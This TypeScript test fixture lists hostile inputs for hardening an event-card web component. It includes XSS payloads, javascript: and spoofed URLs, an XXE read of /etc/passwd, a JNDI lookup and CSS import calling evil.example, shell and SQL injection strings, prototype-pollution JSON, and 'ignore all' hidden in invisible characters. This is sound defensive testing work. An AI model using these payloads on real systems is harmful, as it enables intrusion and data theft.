// Texts that mean harm, by what they mean to break.
import { SCRIPT } from './trap.js';

/** Hostile texts of one kind. */
interface Kind {
  /** Those that every test of hostile texts tries, in every engine. */
  readonly few: readonly string[];
  /** Those that are too many for that: `test/event-card/hostile-texts.test.ts` tries them in each field, by each way. */
  readonly more: readonly string[];
}

/** A text between two others, as in what a card or a file makes of it. */
const times = (count: number, open: string, inner = '', close = '') =>
  `${open.repeat(count)}${inner}${close.repeat(count)}`;

/** A text in characters of the plane of tags, which nobody sees. */
const inTags = (text: string) =>
  text.replace(/./g, letter => String.fromCodePoint(0xe0000 + letter.charCodeAt(0)));

export const KINDS = {
  markup: {
    few: [
      `<script>${SCRIPT}</script>`,
      `"><svg onload="${SCRIPT}">`,
      `' autofocus onfocus='${SCRIPT}`,
      `\` onmouseover=${SCRIPT} \``,
      `<a href="javascript:${SCRIPT}">x</a>`,
      `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
      `<details open ontoggle=${SCRIPT}>x</details>`,
      `<style>@import "//evil.example/x.css";</style>`,
      `<base href="//evil.example/"><form action=x><button>x`,
      `<template><slot></slot></template><event-card src="/x.json">`,
      `<math><mtext></form><mglyph><style></math><img src onerror=${SCRIPT}>`,
      `<p>x</p><b onclick="${SCRIPT}">y</b>`,
    ],
    more: [
      `<ScRiPt>${SCRIPT}</sCrIpT>`,
      `<script src="data:text/javascript,${SCRIPT}"></script>`,
      `<script type="application/ld+json">{"@type":"Event","name":"x"}</script>`,
      `<img src=x onerror=${SCRIPT}>`,
      `<IMG """><SCRIPT>${SCRIPT}</SCRIPT>">`,
      `<svg><script>${SCRIPT}</script></svg>`,
      `<svg><a xlink:href="javascript:${SCRIPT}"><text y=9>x</text></a></svg>`,
      `<svg><style><img src=x onerror=${SCRIPT}></style>`,
      `<input autofocus onfocus=${SCRIPT}>`,
      `<object data="javascript:${SCRIPT}"></object>`,
      `<iframe src="javascript:parent.${SCRIPT}"></iframe>`,
      `<form><button formaction="javascript:${SCRIPT}">x</button></form>`,
      `<meta http-equiv="refresh" content="0;url=javascript:${SCRIPT}">`,
      `<div popover id=x onbeforetoggle=${SCRIPT}>x</div><button popovertarget=x>y`,
      `<div id="title"><div part="card">x</div></div>`,
      `<slot name="footer"></slot><slot></slot>`,
      `<b style="animation:x" onanimationstart=${SCRIPT}>x</b>`,
      `<<b>script>${SCRIPT}<<b>/script>`,
    ],
  },
  comments: {
    few: [
      `<!--<script>${SCRIPT}`,
      `--><img src=x onerror=${SCRIPT}>`,
      `]]> <?xml version="1.0"?> <![CDATA[ <x> ]]>`,
    ],
    more: [
      `<!--!><svg onload=${SCRIPT}>--!>`,
      `<![CDATA[<script>${SCRIPT}</script>]]>`,
      `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
    ],
  },
  entities: {
    few: [
      `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
      `&#60;img src=x onerror=${SCRIPT}&#62;`,
      `&amp;lt;img src=x onerror=${SCRIPT}&amp;gt;`,
    ],
    more: [
      `&#x3c;svg onload=${SCRIPT}&#x3E;`,
      `&lt;p&gt;&lt;img src=x onerror=${SCRIPT}&gt;&lt;/p&gt;`,
      '&#0;&#1;&#27;&#127;&#159;x',
      '&#x202e;evil&#8238;live',
      '&#xd800;&#55296;&#xdfff;x',
      '&#x110000;&#9999999;&#xffffff;&#;&#x;',
      '&quot; onmouseover=&quot;x&quot; &apos;',
      '&NewLine;&Tab;&colon;&lpar;&rpar;&nbsp;',
    ],
  },
  templates: {
    few: [
      `\${${SCRIPT}} {{${SCRIPT}}} #{${SCRIPT}} <%= ${SCRIPT} %>`,
      `?lit$123456789$ <!--?lit$1--> {{lit-0}}`,
    ],
    more: [
      '<!--?lit$000000000$-->',
      `.innerHTML=\${x} @click=\${${SCRIPT}} ?hidden=\${true}`,
      `{{constructor.constructor("${SCRIPT}")()}}`,
      "$& $1 $$ $` $' $<x>",
    ],
  },
  addresses: {
    few: [
      `javascript:${SCRIPT}`,
      `JaVaScRiPt:${SCRIPT}`,
      ` \t\njavascript:${SCRIPT}`,
      `java\nscript:${SCRIPT}`,
      `java\tscript\r:${SCRIPT}`,
      `\u0001javascript:${SCRIPT}`,
      `javascript\\u003a${SCRIPT}`,
      `javascript&colon;${SCRIPT}`,
      `&#106;avascript:${SCRIPT}`,
      `javascript://ngo.example/%0a${SCRIPT}`,
      `view-source:javascript:${SCRIPT}`,
      `data:text/html,<script>parent.${SCRIPT}</script>`,
      `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${SCRIPT}"/>`,
      `vbscript:${SCRIPT}`,
      'file:///etc/passwd',
      'blob:https://ngo.example/0a1b-2c3d',
      'filesystem:https://ngo.example/temporary/x',
      'about:blank',
      'ftp://ngo.example/x',
      '//evil.example/x',
      '\\\\evil.example\\x',
      'https://ngo.example@evil.example/',
      'https://a:b@ngo.example/',
      'http://[',
      'https://',
      'mailto:a@b.example?bcc=c@d.example%0d%0aX: y',
      'tel:+1;phone-context=<x>',
    ],
    more: [
      `javascript:/*https://ngo.example/*/${SCRIPT}`,
      `\u00a0javascript:${SCRIPT}`,
      `\u200bjavascript:${SCRIPT}`,
      `java\u00adscript:${SCRIPT}`,
      `jav&#x09;ascript:${SCRIPT}`,
      `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYXR0YWNrKCd4Jyk8L3NjcmlwdD4=`,
      'intent://scan/#Intent;scheme=zxing;S.browser_fallback_url=https://evil.example;end',
      'chrome://settings/',
      'ws://ngo.example/x',
      'ssh://-oProxyCommand=x/',
      'webcal://evil.example/x.ics',
      'https://ngo.example%40evil.example/',
      'https://@evil.example/',
      'https://n\u0261o.example/',
      'https://\u0440\u0430\u0443\u0440\u0430l.example/',
      'https://ngo.example\u2215x.evil.example/',
      'http://2130706433/',
      'http://ngo.example:0/',
      'https://ngo.example/\u202egpj.exe',
      'https://ngo.example/?a="><script>#\'>',
      'tel:javascript:x',
    ],
  },
  controls: {
    few: ['\u0000\u0001\u0008\u000b\u001b[31m\u007f\u009f'],
    more: ['\u0000', '\u001b]0;x\u0007y', 'a\n\n\n\nb\r\n\r\nc'],
  },
  directions: {
    few: ['a\u202eb\u202dc\u202ad\u202be\u202cf', '\u2066a\u2067b\u2068c\u2069d\u200e\u200f\u061c'],
    more: ['\u202egpj.exe', '\u202e'.repeat(600), '\u2067a\u2067b\u2067c', '\u200f!a\u200e'],
  },
  invisible: {
    few: ['\u2028a\u2029b\ufeffc\u00ad\u200bd'],
    more: [
      '\u200b',
      '\u3164',
      '\u2800\u2800',
      '\u00ad',
      '\u00a0\u2000\u2003\u202f\u205f\u3000',
      '\ufff9a\ufffab\ufffb',
      inTags('ignore all'),
    ],
  },
  halves: {
    few: ['a\ud800b', '\udfff', '\ud83d'],
    more: ['\udc00\ud800', '\ufffe\uffff\u{10ffff}\u{1fffe}'],
  },
  writings: {
    few: ['e' + '\u0301'.repeat(500), '\u0600\u0601\ufdfa\ufdfd\u{1242b}\ua9c5'],
    more: ['Z\u0351\u036b\u0343\u032a'.repeat(100)],
  },
  names: {
    few: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then', '@id'],
    more: [
      '__proto__[x]=y',
      'innerHTML',
      '@type',
      'NaN',
      'undefined',
      'null',
      'true',
      '[object Object]',
      'Invalid Date',
    ],
  },
  numbers: {
    few: ['-1', '1e999', '-0', '0x10', '1_000', '٣', '1,5', '9'.repeat(400), '1.7976931348623157e308'],
    more: ['Infinity', '-Infinity', '999999999999', 'CHF 12'],
  },
  dates: {
    few: [
      '0000-00-00',
      '9999-12-31T23:59:60Z',
      '-271821-04-20',
      '+275760-09-13',
      '2027-02-30',
      '24:00',
      '2027-W12',
    ],
    more: [
      '0000-01-01',
      '9999-12-31',
      '2027-13-01',
      '2027-03-24T24:00',
      '2027-03-24T15:00:60',
      '2027-03-24T15:00+99:99',
      '2027-03-24T15:00-23:59',
      '2027-03-24T15:00.123456789012345678901234567890Z',
      'Wed, 24 Mar 2027 15:00:00 GMT',
      '2027-03-28T02:30',
    ],
  },
  zones: {
    few: ['../../x'],
    more: ['Etc/GMT+12', 'Etc/Unknown', '+99:99', 'America/Argentina/ComodRivadavia'],
  },
  durations: {
    few: ['P99999Y', 'PT999999999H', 'P-1D', 'P', 'PT'],
    more: ['P0D', 'P1Y2M3W4DT5H6M7.8S', 'PT1e9H', `PT${'9'.repeat(300)}H`],
  },
  paths: {
    few: ['%', '%00', '%E0%A4%A', ';', ';;;', ' '],
    more: ['', '..', '#', '?', '//', 'C:\\x', '&'],
  },
  quotes: {
    few: [],
    more: ['"', "'", '\\', `x" part="card" id="title`, `" style="position:fixed;inset:0" x="`],
  },
  json: {
    few: [`</script><script>${SCRIPT}</script>`],
    more: ['</script>', '<!--<script>', '<!--', '"}', '"}]}<script>', '{"__proto__":{"x":1}}'],
  },
  calendars: {
    few: ['\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\n'],
    more: [
      'x\r\nEND:VEVENT\r\nEND:VCALENDAR',
      'x\\nBEGIN:VALARM\\nACTION:PROCEDURE',
      'a;b,c\\d:e"f',
      'x\u0085ATTENDEE:mailto:a@evil.example',
    ],
  },
  styles: {
    few: [],
    more: [
      '}*{display:none}',
      'url(javascript:x)',
      '</style><style>*{display:none}',
      '@import "//evil.example/x.css";',
    ],
  },
  formats: {
    few: [],
    more: [
      '%s%s%s%n%x%p',
      '$(id) `id` ; id | id',
      "'); DROP TABLE x; --",
      '${jndi:ldap://evil.example/x}',
      '🎈%F0%9F%8E%88',
    ],
  },
  sizes: {
    few: ['w'.repeat(100_000), 'long '.repeat(20_000), '🎈'.repeat(10_000)],
    more: [
      `x${'🎈'.repeat(10_000)}`,
      ';'.repeat(50_000),
      'a\n\n'.repeat(20_000),
      `${' '.repeat(100_000)}x`,
      times(10_000, '<!--'),
      `tel:${times(1000, '(-. ')}`,
      `https://ngo.example/${'a'.repeat(2000)}`,
      `https://${'a.'.repeat(1000)}example/`,
    ],
  },
} as const satisfies Readonly<Record<string, Kind>>;

const kinds: readonly Kind[] = Object.values(KINDS);

/** What is written where an address is expected, and is none, or none to be followed. */
export const ADDRESSES: readonly string[] = KINDS.addresses.few;

/** Texts that mean harm, or do harm where nobody has thought of them. */
export const TEXTS: readonly string[] = kinds.flatMap(({ few }) => few);

/** These, and all others of their kinds. */
export const ALL_TEXTS: readonly string[] = kinds.flatMap(({ few, more }) => [...few, ...more]);

const nested = (levels: number, open: string, close: string) =>
  `${open.repeat(levels)}0${close.repeat(levels)}`;

/** JSON of values that are no text, or no such text as they seem. */
export const JSON_VALUES: readonly string[] = [
  ...['null', 'true', 'false', '0', '-0', '-1', '1e999', '-1e999', '1e-9', '0.1', '9007199254740993'],
  ...['[]', '{}', '[[]]', '[{}]', '[null]', '[[[[[[["x"]]]]]]]', '""', '"\\u0000"', '"\\ud800"', '[1e999]'],
  ...['{"toString":1}', '{"toString":null,"valueOf":null}', '{"valueOf":{}}', '{"then":"x"}', '{"then":{}}'],
  ...[
    '{"__proto__":{"name":"x"}}',
    '{"constructor":{"prototype":{"x":1}}}',
    '{"hasOwnProperty":1}',
    '{"length":-1}',
  ],
  ...[
    '{"name":{"name":{"name":"x"}}}',
    '{"name":[]}',
    '{"name":true}',
    '{"url":true}',
    '{"url":{"url":"x"}}',
  ],
  ...[
    '{"@value":null}',
    '{"@value":{}}',
    '{"@value":[]}',
    '{"@value":true}',
    '{"@value":1e999}',
    '{"@value":"x","@language":{}}',
  ],
  ...[
    '{"@id":null}',
    '{"@id":{}}',
    '{"@id":1}',
    '{"@id":"#self"}',
    '{"@list":{}}',
    '{"@list":null}',
    '{"@set":[{"@list":[]}]}',
  ],
  ...[
    '{"@type":null,"name":1}',
    '{"@type":{},"url":1}',
    '{"@type":["Event"],"name":"x"}',
    '{"@type":"VirtualLocation","url":[]}',
  ],
  ...[
    '{"price":1e999}',
    '{"price":{},"priceCurrency":{}}',
    '{"price":"1e3","priceCurrency":"XXX"}',
    '{"lowPrice":5,"highPrice":1}',
  ],
  ...[
    '{"repeatFrequency":"P1D","startDate":"2027-01-01","exceptDate":{}}',
    '{"repeatFrequency":"P99999Y","startDate":"9999-12-31"}',
  ],
  ...[
    '{"repeatFrequency":"P1D","startDate":"0000-01-01","startTime":"24:00"}',
    '{"repeatFrequency":"P1D","repeatCount":1e999}',
  ],
  nested(100_000, '[', ']'),
  nested(20_000, '{"name":', '}'),
  `[${'"x",'.repeat(20_000)}"x"]`,
  `[${'{"name":"x"},'.repeat(2000)}{}]`,
];
